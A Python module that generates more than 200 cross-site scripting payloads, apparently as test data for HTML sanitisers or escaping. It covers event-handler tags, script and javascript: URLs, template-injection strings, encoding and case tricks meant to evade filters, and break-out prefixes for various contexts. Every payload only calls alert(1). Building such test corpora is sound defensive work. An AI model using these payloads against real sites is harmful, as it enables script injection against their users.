"""More than 200 texts that call `alert` if a page runs them instead of showing them."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.alert(1)", "(alert)(1)")

_ON_THEIR_OWN = [
    f"<{tag} {event}={call}>"
    for (tag, event), call in product(
        [
            ("img src=x", "onerror"),
            ("svg", "onload"),
            ("body", "onload"),
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("details open", "ontoggle"),
            ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"),
            ("iframe src=/healthz", "onload"),
            ("object data=x", "onerror"),
            ("link rel=stylesheet href=x", "onerror"),
            ("style", "onload"),
            ("marquee", "onstart"),
            ("div style=animation-name:reveal;animation-duration:1s", "onanimationstart"),
            ("p tabindex=1 autofocus", "onfocusin"),
        ],
        _CALLS,
    )
]
_SCRIPTS = [
    *(f"<script>{call}</script>" for call in _CALLS),
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:parent.alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x to=1>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<x style=behavior:url(x) onclick=alert(1) id=x tabindex=1>",
    "<img src=`x`onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    "</textarea><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cimg src=x onerror=alert(1)%3E",
    "＜img src=x onerror=alert(1)＞",  # noqa: RUF001 (signs that some programs turn into the usual ones)
    "\u2028alert(1)\u2029",
    "</p><img src=x onerror=alert(1)>",
    "</li></ul><svg onload=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<dialog open onfocus=alert(1) tabindex=1 autofocus>",
    "<q oncut=alert(1) autofocus onfocus=alert(1) tabindex=1>",
    "<keygen autofocus onfocus=alert(1)>",
]
_OUT_OF = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</svg>",
    "</option>",
    "\n",
    ">",
)
_INSIDE = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) ",
    "<script>alert(1)</script>",
)

PAYLOADS = tuple(
    dict.fromkeys([*_ON_THEIR_OWN, *_SCRIPTS, *(way + inside for way, inside in product(_OUT_OF, _INSIDE))])
)
assert len(PAYLOADS) >= 200, len(PAYLOADS)
